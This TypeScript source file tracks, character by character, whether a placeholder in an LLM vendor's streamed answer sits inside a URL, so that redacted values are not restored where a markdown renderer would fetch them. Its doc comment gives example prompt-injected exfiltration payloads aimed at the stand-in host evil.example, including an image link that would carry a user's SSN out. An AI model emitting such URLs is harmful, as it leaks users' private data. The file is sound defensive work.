import { createCssUrlTracker } from "./css-url-tracker.ts";
import { createDefinitionLabelTracker } from "./definition-label-tracker.ts";
import {
  TAG_LINGERING,
  TAG_OUTSIDE,
  TAG_STEP_CLOSED,
  TAG_STEP_VALUE,
  TAG_STEP_VALUE_ENDED,
  TAG_STRICT,
  createHtmlTagTracker,
} from "./html-tag-tracker.ts";
import { createJsonSourceDecoder } from "./json-source-decoder.ts";
import { createRawTextCloser } from "./raw-text-closer.ts";
import type { RestoreEncoding } from "./restore-options.ts";
import {
  COLON,
  CSS_URL_OPEN,
  DOT,
  HASH,
  IS_CONTAINER_MARKER,
  IS_PLAIN,
  LESS_THAN,
  LINE_FEED,
  LINK_OPEN,
  MARKERS_BY_LAST_CODE,
  type Marker,
  OPEN_BRACKET,
  OPEN_PAREN,
  QUESTION_MARK,
  SLASH,
  SPACE,
  isAsciiDigit,
  isAsciiLetter,
  isAsciiLetterOrDigit,
  isWhitespace,
  toAsciiLower,
} from "./url-syntax.ts";

/**
 * Follows a vendor's answer character by character and says whether a placeholder starting
 * at the current position would sit inside a URL, where restoring it could carry the real
 * value out (a prompt-injected `![](https://evil.example/?q=[US_SSN_7QK2MX])` is fetched by
 * the client's markdown renderer the moment it is shown). When unsure it says yes: a
 * placeholder wrongly kept costs the user a placeholder, a value wrongly restored leaks it.
 *
 * A position is inside a URL when any of these hold (only the text before it counts):
 * 1. The current segment — the characters since the last whitespace, the last closed `<…>`,
 *    or (in JSON) the start of a string — contains, ignoring ASCII case, `//`, `](`, `url(`,
 *    `www.`, a scheme (`http:` `https:` `ftp:` `ftps:` `sftp:` `file:` `mailto:` `data:`
 *    `tel:` `sms:` `javascript:` `vbscript:` `blob:` `ws:` `wss:`, not preceded by a letter
 *    or digit), an attribute (`src=` `href=` `srcset=` `action=` `poster=` `background=`
 *    `data=` `cite=` `ping=`, anywhere, so `lowsrc=` counts too), or a bare host followed by
 *    a path, query, fragment or port (`evil.example/`, `evil.example?`, `evil.example:8080/`:
 *    a dot after a letter or digit, two or more letters, then `/` `?` `#`), which linkify
 *    turns into a link.
 * 2. It is in a destination: after a link's `](` or a reference definition's `]:` come any
 *    whitespace (after `](` even a blank line, which inline renderers read across) and then
 *    the destination, up to the whitespace that ends it, or from a leading `<` up to its `>`.
 *    A definition starts a line (or a JSON string) after list or quote markers (`-` `*` `+`
 *    `>` `1.` `1)`) with `[`; its label may hold whitespace and line breaks and ends at a `]`
 *    that is neither `\]` nor a placeholder's (restored, a placeholder leaves no bracket).
 * 3. It is inside a tag, an autolink or a `<…>` destination: from `<` followed by a letter
 *    (or the `<` that opens a destination) up to the `>` outside a quoted attribute value
 *    (see `createHtmlTagTracker`; after a blank line outside quotes, only attribute values).
 *    A URL in a tag's text, outside a quoted value that ends cleanly, runs on past the `>`
 *    (renderers that read the tag as text extend a GFM autolink over it).
 * 4. It is inside `<script>` or `<style>` (even one that starts inside another tag), up to a
 *    closing tag a renderer passes on as HTML (see `createRawTextCloser`), blank lines
 *    included; or after CSS `url(`, up to its `)` outside quotes.
 *
 * Not caught, as it needs look-ahead: a placeholder before the host of a bare URL or an
 * email address that linkify links (`[US_SSN_7QK2MX].evil.example`, `[EMAIL_…]@evil.example`).
 *
 * Only the vendor's text is followed (never restored values), and only a few flags, a tag
 * name of up to seven letters and the last {@link RECENT_SIZE} characters of the segment
 * are kept, so state is constant-size. In `"json-string"` encoding the text is JSON source
 * (see `createJsonSourceDecoder`): escapes are decoded, each string starts a new segment and
 * a new line, and the source outside strings is followed as text.
 */
export interface RestoreUrlContext {
  /** Follows `text[start..end)`, the vendor's text as it arrived. */
  advance(text: string, start: number, end: number): void;
  /** True when a placeholder starting at the current position would be inside a URL. */
  isInsideUrl(): boolean;
}

/** Enough for the longest marker plus the character before it (the boundary check). */
const RECENT_SIZE = 16;
const RECENT_MASK = RECENT_SIZE - 1;

/** Creates a tracker for one stream of vendor text (one per restorer). */
export function createRestoreUrlContext(options: { encoding?: RestoreEncoding } = {}): RestoreUrlContext {
  const recent = new Uint16Array(RECENT_SIZE);
  let recentEnd = 0;
  let segmentLength = 0;
  let segmentInUrl = false;
  let segmentIsDestination = false;
  /** The last character was the `(` of `](` or the `:` of a definition's `]:`. */
  let destinationOpenedLast = false;
  let destinationIsLink = false;
  /** A destination opened and only whitespace has followed: the next segment is the destination. */
  let destinationPending = false;
  let lessThanPending = false;
  /** Nothing on this line yet but list or quote markers (`-`, `1.`, `>`), where a definition may start. */
  let lineHasOnlyContainerMarkers = true;
  let lineIsBlank = false;
  const cssUrl = createCssUrlTracker();
  const tag = createHtmlTagTracker();
  const label = createDefinitionLabelTracker();
  /** While inside `<script>` or `<style>`: finds the closing tag. */
  let rawTextCloser: ((code: number) => boolean) | undefined;

  const recentAt = (offset: number): number => recent[(recentEnd - 1 - offset) & RECENT_MASK]!;

  function endsWith(marker: Marker): boolean {
    const reversed = marker.reversed;
    const length = reversed.length;
    if (segmentLength < length) return false;
    for (let offset = 0; offset < length; offset++) {
      if (recentAt(offset) !== reversed[offset]) return false;
    }
    return !marker.wordStart || segmentLength === length || !isAsciiLetterOrDigit(recentAt(length));
  }

  /** After `/`, `?` or `#`: whether the segment ends in a bare host (`evil.example`, `evil.example:8080`) before it. */
  function endsWithHost(): boolean {
    const limit = segmentLength < RECENT_SIZE ? segmentLength : RECENT_SIZE;
    let offset = 1;
    while (offset < limit && isAsciiDigit(recentAt(offset))) offset++;
    if (offset > 1) {
      if (offset >= limit || recentAt(offset) !== COLON) return false;
      offset++;
    }
    const lettersStart = offset;
    while (offset < limit && isAsciiLetter(recentAt(offset))) offset++;
    return offset - lettersStart >= 2 && offset + 1 < limit && recentAt(offset) === DOT && isAsciiLetterOrDigit(recentAt(offset + 1));
  }

  function resetSegment(): void {
    segmentLength = 0;
    segmentInUrl = false;
    destinationOpenedLast = false;
  }

  function pushRecent(code: number): void {
    recent[recentEnd] = toAsciiLower(code);
    recentEnd = (recentEnd + 1) & RECENT_MASK;
    segmentLength++;
  }

  /** Adds a character to the segment and notes whether that puts the segment in a URL. */
  function extendSegment(code: number): void {
    pushRecent(code);
    if (code >= 128 || segmentInUrl) return;
    const markers = MARKERS_BY_LAST_CODE[code];
    if (markers !== undefined) {
      for (const marker of markers) {
        if (endsWith(marker)) {
          segmentInUrl = true;
          return;
        }
      }
    }
    if ((code === SLASH || code === QUESTION_MARK || code === HASH) && endsWithHost()) segmentInUrl = true;
  }

  function openDestination(isLink: boolean): void {
    segmentInUrl = true;
    destinationOpenedLast = true;
    destinationIsLink = isLink;
  }

  /** Follows a non-whitespace character inside `<…>`; true when nothing else is to be done with it. */
  function takeInsideTag(code: number): boolean {
    const strict = tag.mode === TAG_STRICT;
    const step = tag.take(code);
    if ((step & TAG_STEP_VALUE_ENDED) !== 0) resetSegment();
    if ((step & TAG_STEP_CLOSED) !== 0) {
      // A URL in the tag's text runs on past its `>` when renderers read the tag as text (GFM
      // autolinks end at whitespace or `<` only): `<a href=https://evil.example/?q=>[…]`.
      if (!segmentInUrl) resetSegment();
      if (tag.rawTextCloser !== "") rawTextCloser = createRawTextCloser(tag.rawTextCloser);
      return true;
    }
    // The tag's text is a segment too, for a URL that runs on past the `>`.
    if (!strict && (step & TAG_STEP_VALUE) === 0) return false;
    extendSegment(code);
    return true;
  }

  /**
   * A blank line ends a paragraph for block renderers but not for inline ones (markdown-it's
   * `renderInline`, marked's `parseInline`), so only what neither carries across ends here.
   */
  function takeBlankLine(): void {
    tag.takeBlankLine();
    if (!destinationIsLink) destinationPending = false;
    label.open = false;
    cssUrl.takeBlankLine();
  }

  function takeWhitespace(code: number): void {
    lessThanPending = false;
    if (label.open) label.takeWhitespace(code);
    if (tag.mode !== TAG_OUTSIDE) tag.takeWhitespace();
    if (code === LINE_FEED) {
      if (lineIsBlank) takeBlankLine();
      lineIsBlank = true;
      lineHasOnlyContainerMarkers = true;
    }
    if (segmentLength === 0) return;
    if (destinationOpenedLast) destinationPending = true;
    resetSegment();
  }

  function take(code: number): void {
    if (rawTextCloser !== undefined) {
      if (rawTextCloser(code)) {
        rawTextCloser = undefined;
        lineHasOnlyContainerMarkers = false;
        resetSegment();
      }
      return;
    }
    if (code <= SPACE && isWhitespace(code)) {
      takeWhitespace(code);
      return;
    }
    lineIsBlank = false;
    if (tag.mode !== TAG_OUTSIDE && takeInsideTag(code)) return;
    if (lessThanPending) {
      lessThanPending = false;
      if (isAsciiLetter(code)) {
        // A URL in the text before a tag ends at its `<`; the tag's text starts a new segment.
        resetSegment();
        extendSegment(code);
        tag.open(code);
        return;
      }
    }
    if (cssUrl.open) cssUrl.take(code);
    const atLineStart = lineHasOnlyContainerMarkers;
    if (atLineStart && (code >= 128 || IS_CONTAINER_MARKER[code] === 0)) lineHasOnlyContainerMarkers = false;
    if (segmentLength === 0) {
      segmentIsDestination = destinationPending;
      if (destinationPending) {
        destinationPending = false;
        segmentInUrl = true;
      }
    }
    extendSegment(code);
    // A `<` that opens a destination opens `<…>` even before a non-letter.
    const destinationOpen = destinationOpenedLast || (segmentIsDestination && segmentLength === 1);
    destinationOpenedLast = false;
    if (label.open) {
      if (label.take(code)) openDestination(false);
    } else if (atLineStart && code === OPEN_BRACKET) label.start();
    if (code === LESS_THAN) {
      if (destinationOpen) tag.open(0);
      else lessThanPending = true;
    } else if (code === OPEN_PAREN) {
      if (endsWith(LINK_OPEN)) openDestination(true);
      else if (!cssUrl.open && endsWith(CSS_URL_OPEN)) cssUrl.start();
    }
  }

  const decodeJsonSource = createJsonSourceDecoder({
    take,
    startString() {
      take(SPACE);
      lineHasOnlyContainerMarkers = true;
    },
  });
  const isJson = options.encoding === "json-string";

  return {
    advance: function advance(text, start, end) {
      if (isJson) {
        for (let index = start; index < end; index++) decodeJsonSource(text.charCodeAt(index));
        return;
      }
      for (let index = start; index < end; index++) {
        const code = text.charCodeAt(index);
        if (
          segmentLength === 0 ||
          (code < 128 && IS_PLAIN[code] === 0) ||
          tag.mode !== TAG_OUTSIDE ||
          lessThanPending ||
          label.open ||
          cssUrl.open ||
          rawTextCloser !== undefined
        ) {
          take(code);
          continue;
        }
        // Most characters only extend a started segment: do that here, without a call.
        pushRecent(code);
        destinationOpenedLast = false;
        if (lineHasOnlyContainerMarkers && (code >= 128 || IS_CONTAINER_MARKER[code] === 0)) lineHasOnlyContainerMarkers = false;
      }
    },
    isInsideUrl: function isInsideUrl() {
      if (tag.mode === TAG_STRICT || rawTextCloser !== undefined || cssUrl.open) return true;
      if (tag.mode === TAG_LINGERING && tag.isInValue()) return true;
      return segmentLength > 0 ? segmentInUrl : destinationPending;
    },
  };
}
